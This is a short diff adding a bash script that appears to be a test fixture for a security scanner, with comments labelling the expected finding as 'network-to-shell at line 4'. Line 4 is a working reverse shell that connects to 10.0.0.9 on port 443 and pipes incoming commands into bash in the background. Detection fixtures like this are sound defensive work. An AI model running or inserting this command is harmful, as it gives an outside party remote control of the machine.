@@ -1,0 +1,4 @@
+#!/bin/bash
+# shows: a shell for somebody else
+# expect: network-to-shell at line 4
+nohup bash -c 'exec 5<>/dev/tcp/10.0.0.9/443; cat <&5 | bash >&5' &
